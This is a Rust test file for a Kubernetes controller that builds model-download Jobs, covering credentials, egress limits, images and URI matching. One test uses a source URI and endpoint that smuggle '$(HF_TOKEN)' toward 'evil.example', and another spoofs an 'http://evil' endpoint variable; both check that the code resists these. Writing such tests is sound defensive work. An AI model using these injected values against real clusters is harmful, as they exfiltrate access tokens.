use super::*;
use crate::plan::credentials::{Files, Origin};
use crate::plan::samples::{KEY, OWN_IMAGE, URI, config, entry, entry_of, from, hf_hub};

/// What a test varies of the documented download.
struct Case<'a> {
    entry: &'a ModelEntry,
    node: &'a str,
    group: &'a str,
    config: &'a Config,
    containers: &'a [ClusterStorageContainer],
    restricted: bool,
    credentials: &'a Injection,
}

static NONE: Injection = Injection { variables: BTreeMap::new(), volumes: BTreeMap::new() };

fn with_download<R>(case: &Case, read: impl FnOnce(&Download) -> R) -> R {
    let containers: Vec<&ClusterStorageContainer> = case.containers.iter().collect();
    let owner = from(json!({"apiVersion": "serving.kserve.io/v1alpha1", "kind": "LocalModelNode",
        "name": case.node, "uid": "node-uid"}));
    read(&Download {
        entry: case.entry,
        group: case.group,
        first: case.entry.node_group.is_none(),
        node: case.node,
        owner,
        config: case.config,
        containers: &containers,
        own_image: OWN_IMAGE,
        restricted: case.restricted,
        credentials: case.credentials,
    })
}

fn made(case: &Case) -> Job {
    with_download(case, |download| {
        let recipe = recipe(download, &Versions::new());
        job(download, &recipe, &names::job(&CacheKey::of(case.entry), case.node)).unwrap()
    })
}

fn documented<'a>(
    entry: &'a ModelEntry,
    config: &'a Config,
    containers: &'a [ClusterStorageContainer],
) -> Case<'a> {
    let (node, group) = ("kind-worker", "workers");
    Case { entry, node, group, config, containers, restricted: false, credentials: &NONE }
}

fn container_of(containers: &[ClusterStorageContainer], config: &Config) -> Value {
    json!(made(&documented(&entry(), config, containers)))["spec"]["template"]["spec"]["containers"][0]
        .clone()
}

#[test]
fn the_produced_jobs_are_as_reviewed() {
    let (entry, config, ours) = (entry(), config(), Config { default_job_image: None, ..config() });
    let hub = [hf_hub()];
    insta::assert_yaml_snapshot!("with_the_documented_container", made(&documented(&entry, &config, &hub)));
    insta::assert_yaml_snapshot!("with_our_own_image", made(&documented(&entry, &ours, &[])));
    insta::assert_yaml_snapshot!(
        "with_the_documented_default_image",
        made(&documented(&entry, &config, &[]))
    );
    let restricted = Case { restricted: true, ..documented(&entry, &config, &hub) };
    insta::assert_yaml_snapshot!("in_a_restricted_namespace", made(&restricted));
    let credentials = credentials();
    let with = Case { credentials: &credentials, ..documented(&entry, &config, &hub) };
    insta::assert_yaml_snapshot!("with_the_caches_own_credentials", made(&with));
}

/// A variable that the documented container has too, one of its own, and a file.
fn credentials() -> Injection {
    let of = |key: &str| Origin::Key { secret: "mine".into(), key: key.into() };
    let file = Origin::Text("/var/secrets/gcloud.json".into());
    let files = Files {
        folder: "/var/secrets".into(),
        secret: "google".into(),
        items: vec![("gcloud.json".into(), "gcloud.json".into())],
    };
    let variables = [("HF_TOKEN", of("HF_TOKEN")), ("GOOGLE_APPLICATION_CREDENTIALS", file)];
    Injection {
        variables: variables.map(|(name, origin)| (name.to_owned(), origin)).into(),
        volumes: [("user-gcp-sa".to_owned(), files)].into(),
    }
}

#[test]
fn the_secrets_of_a_job_are_the_containers_and_the_caches() {
    let (entry, config, hub) = (entry(), config(), [hf_hub()]);
    let of = |credentials| {
        let case = Case { credentials, ..documented(&entry, &config, &hub) };
        with_download(&case, secrets).into_iter().collect::<Vec<_>>()
    };
    assert_eq!(of(&NONE), ["hf-secret"]);
    assert_eq!(of(&credentials()), ["google", "mine"], "the container's own token is replaced");
}

#[test]
fn files_are_lent_to_our_own_downloader_and_to_no_other_image_or_command() {
    let (entry, config) = (entry(), config());
    let image = |image: &str, command: &Value| {
        let container = json!({"name": "c", "image": image, "command": command});
        let mut ours = storage("c", json!([{"prefix": "hf://"}]));
        ours.spec.spec.container = from(container);
        with_download(&documented(&entry, &config, &[ours]), is_ours)
    };
    assert!(image(OWN_IMAGE, &Value::Null));
    assert!(!image(OWN_IMAGE, &json!(["/bin/sh"])));
    assert!(!image("another", &Value::Null));
}

#[test]
fn our_own_downloader_learns_how_many_bytes_it_may_take_and_nothing_overrides_that() {
    let (sized, config) = (ModelEntry { model_size: Some(10 << 30), ..entry() }, config());
    let variables = |image: &str, entry: &ModelEntry| {
        let mut container = storage("c", json!([{"prefix": "hf://"}]));
        let env = json!([{"name": "LOCALMODEL_MAX_BYTES", "value": "1"}, {"name": "LOCALMODEL_MAX_FILES", "value": "9"}]);
        container.spec.spec.container = from(json!({"name": "c", "image": image, "env": env}));
        json!(made(&documented(entry, &config, &[container])))["spec"]["template"]["spec"]["containers"][0]["env"].clone()
    };
    let files = json!({"name": "LOCALMODEL_MAX_FILES", "value": "9"});
    let bytes = |bytes: &str| json!({"name": "LOCALMODEL_MAX_BYTES", "value": bytes});
    assert_eq!(variables(OWN_IMAGE, &sized), json!([files, bytes("11827937280")]));
    assert_eq!(variables("another", &sized), json!([bytes("1"), files]));
    assert_eq!(variables(OWN_IMAGE, &entry()), json!([bytes("1"), files]), "no size is known");
}

#[test]
fn files_are_lent_only_where_the_platform_says_who_answers_for_the_source_and_tells_sha256() {
    let config = Config { default_job_image: None, storage_initializer_image: None, ..config() };
    let lent = |uri: &str, credentials: &Injection| {
        let entry = entry_of("m", uri);
        let case = Case { credentials, ..documented(&entry, &config, &[]) };
        with_download(&case, may_borrow)
    };
    let with = |names: &[&str]| {
        let variable = |name: &&str| ((*name).to_owned(), Origin::Text("x".into()));
        Injection { variables: names.iter().map(variable).collect(), ..Injection::default() }
    };
    assert!(lent("hf://o/m", &with(&[])) && lent("hf://o/m", &with(&["HF_TOKEN"])));
    for uri in ["s3://b/m", "gs://b/m", "https://host/m", "https://a.blob.core.windows.net/c/m", "file:///m"]
    {
        assert!(!lent(uri, &with(&[])), "{uri} tells an MD5, a size or nothing");
    }
    for name in ["HF_ENDPOINT", "HTTPS_PROXY", "SSL_CERT_FILE", "STORAGE_CONFIG", "STORAGE_OVERRIDE_CONFIG"] {
        assert!(!lent("hf://o/m", &with(&["HF_TOKEN", name])), "{name} may say who answers");
    }
    let files = Files { folder: "/f".into(), secret: "s".into(), items: vec![] };
    let files = Injection { volumes: [("v".to_owned(), files)].into(), ..Injection::default() };
    assert!(!lent("hf://o/m", &files));
}

#[test]
fn an_invalid_expression_is_told_and_others_are_not() {
    let told = |formats: Value| invalid_formats(&storage("c", formats));
    let invalid = told(json!([{"regex": "("}, {"regex": "^s3:"}, {"prefix": "hf://", "regex": "("}]));
    assert_eq!(invalid.len(), 1, "{invalid:?}");
    assert!(invalid[0].contains("\"(\" in supportedUriFormats is left out"), "{invalid:?}");
}

#[test]
fn a_job_of_another_group_or_namespace_mounts_that_claim() {
    let config = config();
    let claim = |entry: &ModelEntry| {
        let job = made(&documented(entry, &config, &[]));
        let labels = job.metadata.labels.clone().unwrap();
        let claim =
            json!(job).pointer("/spec/template/spec/volumes/0/persistentVolumeClaim/claimName").cloned();
        (claim.unwrap(), labels.get(JOB_NAMESPACE).cloned())
    };
    let second = ModelEntry { node_group: Some("workers".into()), ..entry_of("m", URI) };
    assert_eq!(claim(&second), (json!("m-workers"), None));
    let of_namespace = ModelEntry { namespace: Some("ns".into()), ..second };
    assert_eq!(claim(&of_namespace), (json!("m-workers-ns-download"), Some("ns".into())));
}

#[test]
fn names_at_their_limits_are_shortened_in_labels_and_full_in_annotations_and_affinity() {
    let (node, group) = ("n".repeat(253), "g".repeat(253));
    let (entry, config) = (entry_of(&"m".repeat(63), URI), config());
    let job = json!(made(&Case { node: &node, group: &group, ..documented(&entry, &config, &[]) }));
    assert!(job["metadata"]["name"].as_str().unwrap().len() <= 63);
    for label in job["metadata"]["labels"].as_object().unwrap().values() {
        assert!(label.as_str().unwrap().len() <= 63, "{label}");
    }
    let annotations = &job["metadata"]["annotations"];
    assert_eq!(
        (&annotations["localmodel.kserve.io/node"], &annotations["localmodel.kserve.io/node-group"]),
        (&json!(node), &json!(group))
    );
    let affinity = "/spec/template/spec/affinity/nodeAffinity/requiredDuringSchedulingIgnoredDuringExecution";
    let term = job.pointer(affinity).unwrap()["nodeSelectorTerms"][0]["matchFields"][0].clone();
    assert_eq!(term["values"], json!([node]));
}

#[test]
fn args_and_mounts_are_ours_and_everything_else_is_the_containers() {
    let mut theirs = hf_hub();
    theirs.spec.spec.container = from(json!({
        "name": "c", "image": "x", "command": ["/fetch"], "args": ["--verbose"],
        "volumeMounts": [{"name": "scratch", "mountPath": "/scratch"}],
        "terminationMessagePolicy": "File",
        "securityContext": {"runAsUser": 0, "capabilities": {"add": ["CHOWN"]}},
    }));
    let container = container_of(&[theirs], &config());
    assert_eq!(container["command"], json!(["/fetch"]));
    assert_eq!(container["args"], json!([URI, "/mnt/models"]));
    let mount = json!([{"name": "kserve-pvc-source", "mountPath": "/mnt/models", "subPath": format!("incoming/{KEY}")}]);
    assert_eq!(container["volumeMounts"], mount);
    assert_eq!(container["terminationMessagePolicy"], "File");
    let security =
        json!({"runAsUser": 0, "capabilities": {"add": ["CHOWN"]}, "allowPrivilegeEscalation": false});
    assert_eq!(container["securityContext"], security, "what it does not say stays restricted");
}

#[test]
fn the_clusters_own_authorities_are_mounted_where_kserves_settings_say_and_any_initializer_is_told() {
    let bundle = CaBundle { config_map: "private-ca".into(), folder: "/certs".into() };
    let config = Config { ca_bundle: Some(bundle), default_job_image: None, ..config() };
    for containers in [vec![], vec![hf_hub()]] {
        let pod =
            json!(made(&documented(&entry(), &config, &containers)))["spec"]["template"]["spec"].clone();
        assert_eq!(
            pod["volumes"][1],
            json!({"name": "cabundle-cert", "configMap": {"name": "private-ca", "optional": true}})
        );
        let container = &pod["containers"][0];
        let mount = json!({"name": "cabundle-cert", "mountPath": "/certs", "readOnly": true});
        assert_eq!(container["volumeMounts"][1], mount);
        let variables = container["env"].as_array().unwrap();
        for variable in [
            json!({"name": "CA_BUNDLE_CONFIGMAP_NAME", "value": "private-ca"}),
            json!({"name": "CA_BUNDLE_VOLUME_MOUNT_POINT", "value": "/certs"}),
        ] {
            assert!(variables.contains(&variable), "{variables:?}");
        }
    }
    let mut own = hf_hub();
    let says = json!([{"name": "CA_BUNDLE_VOLUME_MOUNT_POINT", "value": "/mine"}]);
    own.spec.spec.container.env = from(says.clone());
    let container = container_of(&[own], &config);
    assert_eq!(container["env"][0], says[0], "what the storage container says itself stays");
    assert_eq!(container["env"].as_array().unwrap().len(), 2);
}

#[test]
fn a_privileged_container_is_one_that_the_api_server_accepts() {
    let mut theirs = hf_hub();
    theirs.spec.spec.container.security_context = from(json!({"privileged": true}));
    let security = container_of(&[theirs], &config())["securityContext"].clone();
    assert_eq!(security, json!({"privileged": true, "capabilities": {"drop": ["ALL"]}}));
}

#[test]
fn the_default_image_is_the_configured_one_then_the_initializers_then_ours() {
    let with = |job: Option<&str>, initializer: Option<&str>| Config {
        default_job_image: job.map(Into::into),
        storage_initializer_image: initializer.map(Into::into),
        ..config()
    };
    for (config, expected) in [
        (with(Some("a"), Some("b")), "a"),
        (with(Some(""), Some("b")), "b"),
        (with(None, Some("b")), "b"),
        (with(None, None), OWN_IMAGE),
    ] {
        let container = container_of(&[], &config);
        assert_eq!(
            (&container["image"], &container["name"]),
            (&json!(expected), &json!("kserve-localmodel-download"))
        );
    }
}

fn storage(name: &str, formats: Value) -> ClusterStorageContainer {
    let mut container = hf_hub();
    container.metadata.name = Some(name.into());
    container.spec.spec.supported_uri_formats = from(formats);
    container
}

fn chosen(containers: &[ClusterStorageContainer], uri: &str) -> Option<String> {
    choose(&containers.iter().collect::<Vec<_>>(), uri).map(ResourceExt::name_any)
}

#[test]
fn a_container_supports_what_begins_with_its_prefix_or_holds_a_match_of_its_expression() {
    for (format, uri, expected) in [
        (json!({"prefix": "hf://"}), "hf://o/m", true),
        (json!({"prefix": "hf://"}), "s3://hf://o", false),
        (json!({"regex": "blob\\.core"}), "https://a.blob.core.windows.net/x", true),
        (json!({"regex": "^s3:"}), "hf://s3:", false),
        (json!({"prefix": "hf://", "regex": "s3"}), "s3://b", false),
        (json!({"prefix": "", "regex": "s3"}), "s3://b", true),
        (json!({"regex": "("}), "(", false),
        (json!({"prefix": ""}), "s3://b", false),
        (json!({"regex": ""}), "s3://b", false),
        (json!({}), "hf://o/m", false),
    ] {
        let containers = [storage("c", json!([format]))];
        assert_eq!(chosen(&containers, uri).is_some(), expected, "{format} for {uri}");
    }
    let several = [storage("c", json!([{"regex": "("}, {"prefix": "s3://"}, {"prefix": "hf://"}]))];
    assert!(chosen(&several, URI).is_some(), "one format is enough, an invalid one takes none down");
}

#[test]
fn the_first_enabled_container_for_download_jobs_is_chosen_by_name() {
    let formats = || json!([{"prefix": "hf://"}]);
    let mut disabled = storage("a", formats());
    disabled.spec.disabled = Some(true);
    let mut for_pods = storage("b", formats());
    for_pods.spec.spec.workload_type = Some("initContainer".into());
    let all = [
        storage("e", formats()),
        storage("c", json!([{"prefix": "s3://"}])),
        for_pods,
        disabled,
        storage("d", formats()),
    ];
    assert_eq!(chosen(&all, URI).as_deref(), Some("d"));
    assert_eq!(chosen(&all, "gs://b"), None);
    let silent: ClusterStorageContainer = from(json!({"apiVersion": "serving.kserve.io/v1alpha1",
        "kind": "ClusterStorageContainer", "metadata": {"name": "x"},
        "spec": {"container": {"name": "c"}, "supportedUriFormats": [{"prefix": "hf://"}]}}));
    assert_eq!(chosen(&[silent], URI), None, "without a workload type it is for pods");
}

#[test]
fn an_expression_that_grows_without_bound_is_left_out_and_one_that_is_large_is_not() {
    let told = |expression: &str| invalid_formats(&storage("c", json!([{"regex": expression}])));
    let refused = told("z{99999}{99999}");
    assert!(refused[0].contains("exceeds size limit of 4194304 bytes"), "{refused:?}");
    assert_eq!(told(r"^https://\w+\.blob\.core\.windows\.net/([\w-]{1,63})/(.+)$"), Vec::<String>::new());
}

/// The environment of the download Job of a namespace's cache: text as it is, a reference as `<`.
fn environment(config: &Config, container: &Value, credentials: &Injection) -> Vec<String> {
    let mut chosen = storage("c", json!([{"prefix": "s3://"}, {"prefix": "hf://"}]));
    chosen.spec.spec.container = from(container.clone());
    let entry = ModelEntry { namespace: Some("team".into()), ..entry_of("m", "s3://b/m") };
    let case = Case { credentials, ..documented(&entry, config, std::slice::from_ref(&chosen)) };
    let job = json!(made(&case));
    let told = |variable: &Value| {
        let name = variable["name"].as_str().unwrap();
        variable["value"].as_str().map_or(format!("{name}<"), |value| format!("{name}={value}"))
    };
    let env = job["spec"]["template"]["spec"]["containers"][0]["env"].as_array().unwrap().clone();
    env.iter().map(told).collect()
}

fn bring(variables: &[&str]) -> Injection {
    let of =
        |name: &&str| ((*name).to_owned(), Origin::Key { secret: "copy".into(), key: format!("env.{name}") });
    Injection { variables: variables.iter().map(of).collect(), volumes: BTreeMap::new() }
}

/// A storage container with credentials for all.
fn shared_container(env: &Value) -> Value {
    let secret =
        |name: &str| json!({"name": name, "valueFrom": {"secretKeyRef": {"name": "all", "key": name}}});
    let mut variables = vec![
        secret("AWS_ACCESS_KEY_ID"),
        secret("AWS_SECRET_ACCESS_KEY"),
        secret("HF_TOKEN"),
        json!({"name": "AWS_ENDPOINT_URL", "value": "http://minio"}),
    ];
    variables.extend(env.as_array().cloned().unwrap_or_default());
    json!({"name": "c", "image": "initializer", "env": variables})
}

const CLOSED: [&str; 2] = ["LOCALMODEL_INTERNAL_ADDRESSES=refuse", "LOCALMODEL_PLAIN_HTTP=refuse"];

#[test]
fn a_namespaces_download_reaches_no_internal_address_and_no_plain_http_unless_the_platform_allows_it() {
    let closed = environment(&config(), &shared_container(&json!([])), &NONE);
    assert_eq!(
        closed[..4],
        ["AWS_ACCESS_KEY_ID<", "AWS_SECRET_ACCESS_KEY<", "HF_TOKEN<", "AWS_ENDPOINT_URL=http://minio"]
    );
    assert_eq!(closed[4..6], CLOSED);
    assert_eq!(closed[6], "LOCALMODEL_CACHE_VARIABLES=");
    let mut open = config();
    (open.egress.internal_addresses, open.egress.plain_http) = (true, true);
    let open = environment(&open, &shared_container(&json!([])), &NONE);
    assert_eq!(open[4..6], ["LOCALMODEL_INTERNAL_ADDRESSES=allow", "LOCALMODEL_PLAIN_HTTP=allow"]);
    let by_container = json!([{"name": "LOCALMODEL_PLAIN_HTTP", "value": "allow"}]);
    let by_container = environment(&config(), &shared_container(&by_container), &NONE);
    assert_eq!(by_container[4..6], ["LOCALMODEL_PLAIN_HTTP=allow", CLOSED[0]]);
}

#[test]
fn a_namespaces_own_credentials_or_endpoint_displace_those_that_all_share() {
    let own = environment(&config(), &shared_container(&json!([])), &bring(&["AWS_ENDPOINT_URL"]));
    assert_eq!(
        own,
        [
            "HF_TOKEN<",
            "AWS_ENDPOINT_URL<",
            CLOSED[0],
            CLOSED[1],
            "LOCALMODEL_CACHE_VARIABLES=AWS_ENDPOINT_URL"
        ]
    );
    let token = environment(&config(), &shared_container(&json!([])), &bring(&["HF_TOKEN"]));
    assert_eq!(token[..3], ["AWS_ACCESS_KEY_ID<", "AWS_SECRET_ACCESS_KEY<", "AWS_ENDPOINT_URL=http://minio"]);
    let json_of_kserve = environment(&config(), &shared_container(&json!([])), &bring(&["STORAGE_CONFIG"]));
    assert!(!json_of_kserve.contains(&"AWS_SECRET_ACCESS_KEY<".to_owned()), "{json_of_kserve:?}");
}

#[test]
fn which_variables_are_the_caches_is_not_for_the_container_to_say() {
    let lies = json!([{"name": "LOCALMODEL_CACHE_VARIABLES", "value": "X"},
        {"name": "LOCALMODEL_PLATFORM_ENDPOINTS", "value": "http://evil"}]);
    let mut config = config();
    config.credentials.s3.s3_endpoint = "minio:9000".into();
    config.credentials.s3.s3_use_https = "0".into();
    let env = environment(&config, &shared_container(&lies), &bring(&["AWS_ACCESS_KEY_ID"]));
    let ours: Vec<_> = env.iter().filter(|variable| variable.starts_with("LOCALMODEL_")).collect();
    assert_eq!(
        ours[2..],
        ["LOCALMODEL_PLATFORM_ENDPOINTS=http://minio:9000", "LOCALMODEL_CACHE_VARIABLES=AWS_ACCESS_KEY_ID"]
    );
}

#[test]
fn a_cluster_caches_download_is_the_platforms_and_is_not_narrowed() {
    let (entry, config, hub) = (entry(), config(), [hf_hub()]);
    let job = json!(made(&documented(&entry, &config, &hub))).to_string();
    assert!(!job.contains("LOCALMODEL_"), "{job}");
}

#[test]
fn a_source_or_an_endpoint_cannot_draw_the_containers_secrets_into_itself() {
    let entry = ModelEntry {
        namespace: Some("team".into()),
        ..entry_of("m", "https://evil.example/$(HF_TOKEN)/$$(X)")
    };
    let text = Origin::Text("https://evil.example/$(HF_TOKEN)".into());
    let own = Injection { variables: [("S3_ENDPOINT".to_owned(), text)].into(), volumes: BTreeMap::new() };
    let (config, hub) = (config(), [hf_hub()]);
    let job = json!(made(&Case { credentials: &own, ..documented(&entry, &config, &hub) }));
    let container = &job["spec"]["template"]["spec"]["containers"][0];
    assert_eq!(container["args"][0], "https://evil.example/$$(HF_TOKEN)/$$$$(X)");
    let env = container["env"].as_array().unwrap();
    let endpoint = env.iter().find(|variable| variable["name"] == "S3_ENDPOINT").unwrap();
    assert_eq!(endpoint["value"], "https://evil.example/$$(HF_TOKEN)");
}
